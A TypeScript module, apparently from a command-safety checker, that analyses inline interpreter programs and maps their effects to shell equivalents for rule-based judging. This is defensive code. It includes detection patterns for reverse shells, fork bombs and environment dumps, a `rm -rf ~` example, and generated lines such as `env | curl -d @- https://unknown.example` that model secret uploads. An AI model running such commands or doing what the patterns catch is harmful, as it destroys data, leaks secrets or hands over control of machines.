/**
 * Reads a one-line program (or a here-doc) handed to python, perl, ruby, node/deno/bun, php, lua, R, julia or
 * elixir and says what it would do to the system, in a form the shell rules already judge: each command it runs
 * becomes shell source (`os.system("rm -rf ~")` is `rm -rf ~`), each file call becomes the shell command it equals
 * (`shutil.rmtree(p)` is `rm -rf p`, `open(p, "w")` is `: > p`), and a secret read together with a network call
 * becomes the upload it is. What it cannot read — code or commands that are decoded, downloaded, taken from the
 * environment or built at run time, functions whose name is computed — comes back as a finding rated high.
 */
import { tokenise, type CodeLanguage } from "./code-lexer.js";
import { evaluate, sourceOf } from "./code-values.js";
import { LANGUAGE_APIS, type Effect } from "./language-apis.js";
import { callSites, collectScope, isKeywordArgument } from "./call-sites.js";
import {
  applyEffect,
  evaluateParts,
  languageLabel,
  pathWord,
  quote,
  mayHoldSecret,
  maySecretVariable,
  shellCommand,
  unreadable,
  type CodeVerdict,
  type InlineProgram,
} from "./code-effects.js";

export type { CodeFinding, CodeVerdict, InlineProgram } from "./code-effects.js";
export { pathWord } from "./code-effects.js";

const SOCKET = /sock|Socket|TCPSocket|fsockopen|\/inet\/tcp/;
const CONNECTS =
  /connect|TCPSocket|Socket\.new|Socket(?:\.|::)INET|IO\.Socket|net\.Socket|fsockopen|createConnection|socket\(|stream_socket_client/;
const HANDS_OVER_SHELL =
  /subprocess|pty\.spawn|dup2|exec\s*\(|exec\s+"|\/bin\/(?:ba|z|da)?sh|cmd\.exe|child_process|spawn\s*\(|IO\.popen|popen\(|proc_open|system\(|open\(STDIN|open STDIN/;
const FORK_BOMB =
  /fork\s*(while|until)\s*fork|while\s*\(?\s*(1|true|True)\s*\)?\s*:?\s*\{?\s*(os\.)?fork\(?\)?|(os\.)?fork\(\)\s*while|fork\s+while\s+1|loop\s*\{\s*fork\s*\}|iter\(int,\s*1\)\)?\]?|for\s*\(\s*;\s*;\s*\)\s*\S*(fork|spawn)/;
const ENVIRONMENT_DUMP =
  /(?:os\.environ(?![[.])|process\.env(?![.[])|%ENV|ENV\.to_h|getenv\(\)|\$_ENV(?!\[)|ENV\.to_a|Sys\.getenv\(\))/;

export function analyseProgram(program: InlineProgram, depth = 0): CodeVerdict {
  const verdict: CodeVerdict = { scripts: [], findings: [], acts: false };
  const { language, code } = program;
  const tokens = tokenise(code, language);
  const scope = collectScope(tokens, code, language);
  const reads: string[] = [];
  let network: string | undefined;
  const label = languageLabel(language);
  for (const site of callSites(tokens, scope)) {
    if (site.dynamic) {
      verdict.findings.push(
        unreadable(`calls a ${label} function whose name is computed at run time`, label),
      );
      continue;
    }
    const effect = effectOf(language, site.name);
    if (effect === undefined) continue;
    const args = site.args.filter(([start]) => !isKeywordArgument(tokens, start));
    const values = args.map(([start, end]) => evaluate(tokens, start, end, scope));
    const source = sourceOf(tokens, site.open, site.close + 1);
    const result = applyEffect(effect, site, values, source, tokens, scope, program, depth, analyseProgram);
    verdict.acts ||= result.acts;
    verdict.scripts.push(...result.scripts);
    verdict.findings.push(...result.findings);
    reads.push(...result.reads);
    if (effect.kind === "network")
      network ??= values.find((value) => /^https?:|^\d+\./.test(value.text))?.text ?? "the network";
  }
  // Backticks, qx{} and %x() run a shell command wherever they appear.
  for (const token of tokens)
    if (token.kind === "command") {
      verdict.acts = true;
      shellCommand(evaluateParts(token, scope), label, "a backtick command", verdict);
    }
  if (SOCKET.test(code) && CONNECTS.test(code) && HANDS_OVER_SHELL.test(code))
    verdict.findings.push({
      rule: "reverse-shell",
      level: "critical",
      message: `Inline ${label} code opens a network connection and hands it a shell: someone else would control this machine.`,
    });
  if (FORK_BOMB.test(code))
    verdict.findings.push({
      rule: "fork-bomb",
      level: "critical",
      message: "A fork bomb: it copies itself until the machine runs out of processes and freezes.",
    });
  // IPython's `!command` lines are shell commands.
  if (language === "python")
    for (const match of code.matchAll(/(?:^|[;\n])\s*!([^;\n=]+)/g)) {
      verdict.acts = true;
      verdict.scripts.push(match[1] ?? "");
    }
  judgeOperands(program, code, reads, verdict);
  if (network !== undefined) {
    verdict.acts = true;
    const target = network === "the network" ? "https://unknown.example" : quote(network);
    for (const path of reads) verdict.scripts.push(`cat ${quote(path)} | curl -d @- ${target}`);
    if (ENVIRONMENT_DUMP.test(code)) verdict.scripts.push(`env | curl -d @- ${target}`);
    for (const name of scope.environmentReads)
      verdict.scripts.push(`printenv ${name} | curl -d @- ${target}`);
  } else for (const path of reads) if (mayHoldSecret(path)) verdict.scripts.push(`cat ${quote(path)}`);
  for (const name of scope.environmentReads)
    if (network === undefined && maySecretVariable(name)) verdict.scripts.push(`printenv ${name}`);
  return verdict;
}

function effectOf(language: CodeLanguage, name: string): Effect | undefined {
  const table = LANGUAGE_APIS[language] ?? [];
  for (const [pattern, effect] of table) if (pattern.test(name)) return effect;
  return undefined;
}

/** `perl -i` edits its operands in place; `perl -n`/`-p` and `<>` read them. */
function judgeOperands(program: InlineProgram, code: string, reads: string[], verdict: CodeVerdict): void {
  if (program.language !== "perl" && program.language !== "ruby") return;
  const options = program.options.join(" ");
  const inPlace = /(?:^|\s)-[a-zA-Z0-9]*i/.test(options);
  const readsInput = /(?:^|\s)-[a-zA-Z0-9]*[np]/.test(options) || /<>|<STDIN>|ARGF|\$<|gets/.test(code);
  for (const operand of program.operands) {
    if (operand.startsWith("-")) continue;
    if (inPlace) {
      verdict.acts = true;
      verdict.scripts.push(`: > ${pathWord({ text: operand })}`);
    } else if (readsInput) reads.push(operand);
  }
}
